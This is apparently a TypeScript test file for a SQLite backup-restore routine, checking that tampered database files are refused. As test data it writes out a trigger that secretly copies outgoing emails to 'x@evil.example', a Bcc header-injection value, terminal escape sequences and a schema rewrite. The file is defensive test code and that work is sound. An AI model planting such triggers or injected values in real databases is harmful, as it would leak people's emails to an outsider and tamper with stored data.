import { copyFileSync, readFileSync, rmSync } from 'node:fs'
import { join } from 'node:path'
import Sqlite from 'better-sqlite3'
import { afterAll, afterEach, beforeAll, beforeEach, expect, test } from 'vitest'
import { createDatabaseFile, openDatabase } from '../database/open-database.ts'
import { newDataDir } from '../proof/testing/start-program.ts'
import { restoreBackup } from './restore-backup.ts'

const templates = newDataDir()
const template = join(templates.path, 'template.db')
beforeAll(async () => (await createDatabaseFile(template)).destroy())
afterAll(() => templates[Symbol.dispose]())

let folder: ReturnType<typeof newDataDir>
let file: string
beforeEach(() => {
  folder = newDataDir()
  file = join(folder.path, 'restored.db')
})
afterEach(() => folder[Symbol.dispose]())

const dataDir = () => join(folder.path, 'data')
const restore = () => restoreBackup(dataDir(), file, new Date('2026-03-02T08:00:00Z'), () => {})
function createFile(...statements: string[]) {
  copyFileSync(template, file)
  const sqlite = new Sqlite(file)
  sqlite.unsafeMode()
  for (const statement of statements) sqlite.exec(statement)
  sqlite.close()
}

const leakTrigger = `create trigger leak_emails after insert on outbox when new.recipient <> 'x@evil.example' begin
  insert into outbox (lead_id, kind, recipient, queued_at, due_at, message_id)
  values (new.lead_id, new.kind, 'x@evil.example', new.queued_at, new.due_at, 'x'); end`

test.each([
  ['an extra trigger', 'trigger leak_emails', [leakTrigger]],
  ['an extra view', 'view more', ['create view more as select * from leads']],
  ['an extra table', 'table more', ['create table more (text)']],
  ['an extra virtual table', 'table more', ['create virtual table more using fts5(text)']],
  ['an extra index', 'index more', ['create index more on leads (upper(email))']],
  [
    'a different view named lead_overview',
    'view lead_overview',
    ['drop view lead_overview', 'create view lead_overview as select * from leads where email <> 1'],
  ],
  [
    'a view instead of a table',
    'table kept',
    [
      'alter table leads rename to kept',
      'create view leads as with recursive r as (select 1 union all select 1 from r) select * from r',
    ],
  ],
  [
    'a rewritten table definition',
    'table settings',
    [
      'pragma writable_schema = on',
      `update sqlite_schema set sql = replace(sql, 'not null)', 'not null default (abs(-1)))') where name = 'settings'`,
    ],
  ],
  ['an extra column', 'table accepted_requests', ['alter table accepted_requests add column more text']],
  ['an escape sequence in a table name', 'table a ]0;b', ['create table "a\u001b]0;b" (text)']],
])('a file with %s is refused, and nothing is changed', async (_what, definition, statements) => {
  createFile(...statements)

  await expect(restore()).rejects.toThrow(`It has the ${definition}, which this program did not create`)
  expect(() => new Sqlite(join(dataDir(), 'leads.db'), { fileMustExist: true })).toThrow()
})

const otherColumns = 'first_name last_name email phone company website budget message content_hash'.split(' ')
const lead = (column = '', value = '') => {
  const values: Record<string, string> = {
    id: "'018f0000-0000-7000-8000-000000000001'",
    reference: "'Q-7K3M-9QXD'",
    created_at: "'2026-03-02T08:00:00.000Z'",
    ...Object.fromEntries(otherColumns.map((name) => [name, "'x'"])),
    ...(column && { [column]: value }),
  }
  return `insert into leads (${Object.keys(values).join()}) values (${Object.values(values).join()})`
}
const email = (column = '', value = '') => {
  const at = "'2026-03-02T08:00:00.000Z'"
  const values: Record<string, string> = {
    kind: "'owner_notice'",
    recipient: "'owner@example.com'",
    queued_at: at,
    due_at: at,
    message_id: "'<x>'",
    ...(column && { [column]: value }),
  }
  return `insert into outbox (${Object.keys(values).join()}) values (${Object.values(values).join()})`
}
const event = (column: string, value: string) =>
  `${lead()}; insert into lead_events (lead_id, at, who, what) select id, '2026-03-02T08:00:00.000Z', 'shell', 'note' from leads;
  update lead_events set ${column} = ${value}`
const draft = (column: string, value: string) =>
  `${lead()}; insert into lead_drafts select id, 'owner@example.com', 'Dear', '2026-03-02T08:00:00.000Z' from leads;
  update lead_drafts set ${column} = ${value}`
const passkey = (column: string, value: string) =>
  `insert into passkeys values ('a', 'o', 'u', 'k', 1, '[]', 'phone', 'agency.example', '2026-03-02T08:00:00.000Z', null);
  update passkeys set ${column} = ${value}`
const attempt = (at: string) =>
  `insert into outbox_attempts values ((select max(id) from outbox), ${at}, 'retry', 450, 'later')`

test('a file with valid values is restored', async () => {
  createFile(
    lead(),
    email(),
    email('sent_at', "'2026-03-02T08:00:01.999Z'"),
    attempt("'2026-03-02T08:00:00.000Z'"),
    event('to_value', 'null').replace(lead(), ''),
    draft('text', "''").replace(lead(), ''),
    passkey('used_at', 'null'),
    "update leads set follow_up_on = '2026-03-04', seen_at = created_at, verdict = 'honest'",
  )

  await expect(restore()).resolves.toMatchObject({ leads: 1 })
})

test.each([
  ['leads', 'created_at', lead('created_at', "'9999-99-99T99:99:99.999Z'")],
  ['leads', 'created_at', lead('created_at', "'2026-02-30T08:00:00.000Z'")],
  ['leads', 'created_at', lead('created_at', "'now'")],
  ['leads', 'created_at', lead('created_at', "'2026-03-02T08:00:00.000Z' || char(27) || '[2J'")],
  ['leads', 'created_at', lead('created_at', "cast('2026-03-02T08:00:00.000Z' as blob)")],
  ['leads', 'id', lead('id', "'018f0000'")],
  ['leads', 'id', lead('id', "cast('018f0000-0000-7000-8000-000000000001' as blob)")],
  ['leads', 'reference', lead('reference', "'Q-1' || char(10) || 'Bcc: x@evil.example'")],
  ['leads', 'reference', lead('reference', "'Q-7K3M-9QXD' || char(0, 27) || '[2J'")],
  ['leads', 'message', lead('message', "x'00ff'")],
  ['leads', 'spam_score', lead('spam_score', "'many'")],
  ['leads', 'due_at', lead('due_at', "'soon'")],
  ['leads', 'seen_at', lead('seen_at', "''")],
  ['leads', 'answered_at', lead('answered_at', '7')],
  ['leads', 'follow_up_on', lead('follow_up_on', "'2026-02-30'")],
  ['leads', 'source', lead('source', "'{'")],
  ['leads', 'sort_key', lead('sort_key', "x'00'")],
  ['leads', 'trouble', lead('trouble', "x'00'")],
  ['leads', 'version', lead('version', "'many'")],
  ['leads', 'is_indexed', lead('is_indexed', '2')],
  ['lead_events', 'at', event('at', "''")],
  ['lead_events', 'what', event('what', "x'00'")],
  ['lead_events', 'before', event('before', "'{'")],
  ['lead_drafts', 'updated_at', draft('updated_at', "'now'")],
  ['lead_drafts', 'text', draft('text', "x'00'")],
  ['passkeys', 'counter', passkey('counter', "'many'")],
  ['passkeys', 'transports', passkey('transports', "'['")],
  ['outbox', 'queued_at', email('queued_at', "'tomorrow'")],
  ['outbox', 'due_at', email('due_at', "x'00'")],
  ['outbox', 'sent_at', email('sent_at', "''")],
  ['outbox', 'content', email('content', "'{'")],
  ['outbox', 'recipient', email('recipient', "x'00'")],
  ['outbox', 'attempts', email('attempts', "'many'")],
  ['outbox_attempts', 'at', `${email()}; ${attempt("''")}`],
  ['settings', 'value', "update settings set value = x'00' where name = 'last_write_check'"],
])('a file with an invalid value in %s.%s is refused', async (table, column, statement) => {
  createFile(statement)

  const reason = `Its table ${table} has an invalid value in the column ${column}.`
  await expect(restore()).rejects.toThrow(reason)
})

test.each(['client_hash_key', 'form_token_key'])(
  'a file with a missing or truncated %s is refused',
  async (name) => {
    createFile(`delete from settings where name = '${name}'`)
    await expect(restore()).rejects.toThrow(
      `Its settings lack a valid ${name}, which the server needs to start.`,
    )

    rmSync(file)
    createFile(`update settings set value = substr(value, 1, 10) where name = '${name}'`)
    await expect(restore()).rejects.toThrow(`Its settings lack a valid ${name}`)
  },
)

test.each([
  'name varchar(255) not null primary key references leads (id) on delete cascade, timestamp varchar(255) not null',
  'name varchar(255) not null primary key, timestamp varchar(255) not null check (abs(1))',
  'name varchar(255) not null primary key, timestamp varchar(255) not null, more text',
  "name varchar(255) not null primary key, timestamp text generated always as (name || 'x')",
])('a file with a different kysely_migration table is refused (%s)', async (columns) => {
  createFile('alter table kysely_migration rename to kept')
  const sqlite = new Sqlite(file)
  sqlite.exec(
    `create table kysely_migration (${columns}); insert into kysely_migration (name) select name from kept where 0`,
  )
  for (const name of sqlite.prepare('select name from kept').pluck().all())
    sqlite.prepare('insert or ignore into kysely_migration (name) values (?)').run(name)
  sqlite.exec('drop table kept')
  sqlite.close()

  await expect(restore()).rejects.toThrow(
    'It has the table kysely_migration, which this program did not create',
  )
})

test('a file with gaps in its list of migrations is refused', async () => {
  createFile("delete from kysely_migration where name like '003%'")

  await expect(restore()).rejects.toThrow('Its list of migrations (kysely_migration) has gaps.')
})

test('a file with a missing index is refused', async () => {
  createFile('drop index outbox_open')

  await expect(restore()).rejects.toThrow('It is missing the index outbox_open')
})

test('the tables that ANALYZE creates are allowed', async () => {
  createFile("insert into settings values ('c', '2026-03-02')", 'analyze')

  await expect(restore()).resolves.toMatchObject({ leads: 0 })
})

// Earlier versions ran the statements of a migration without a transaction, so an upgrade could be killed between any two.
const recorded = readFileSync(
  join(import.meta.dirname, '../proof/testing/fixtures/migrations-one-by-one.sql'),
  'utf8',
)
const steps = recorded.split(/^-- /m).flatMap((text) => {
  const [name = '', ...lines] = text.split('\n')
  return name ? [{ name, statements: lines.join('\n').trim().split(/;$/m).filter(Boolean) }] : []
})
const stages = steps.flatMap(({ name, statements }, index) =>
  index === 0 ? [] : Array.from({ length: statements.length + 1 }, (_, count) => ({ name, count })),
)

test.each(stages)(
  'a file from an upgrade killed after statement $count of $name is restored if it has an outbox',
  async ({ name, count }) => {
    const sqlite = new Sqlite(file)
    for (const step of steps) {
      const isLast = step.name === name
      for (const statement of step.statements.slice(0, isLast ? count : undefined)) sqlite.exec(statement)
      if (isLast) break
      sqlite.prepare("insert into kysely_migration values (?, '2026-03-02T08:00:00.000Z')").run(step.name)
    }
    const hasOutbox = sqlite.prepare("select 1 from sqlite_schema where name = 'outbox'").get() !== undefined
    sqlite.close()

    if (!hasOutbox) await expect(restore()).rejects.toThrow('no such table: outbox')
    else {
      await expect(restore()).resolves.toMatchObject({ leads: 0, schema: 'older' })
      await (await openDatabase(dataDir())).destroy()
    }
  },
)

test('a file from an earlier version with an extra trigger is refused', async () => {
  const sqlite = new Sqlite(file)
  for (const statement of steps[0]?.statements ?? []) sqlite.exec(statement)
  sqlite.prepare("insert into kysely_migration values (?, '2026-03-02T08:00:00.000Z')").run(steps[0]?.name)
  sqlite.exec('create trigger t after insert on leads begin delete from outbox; end')
  sqlite.close()

  await expect(restore()).rejects.toThrow('It has the trigger t, which this program did not create')
})
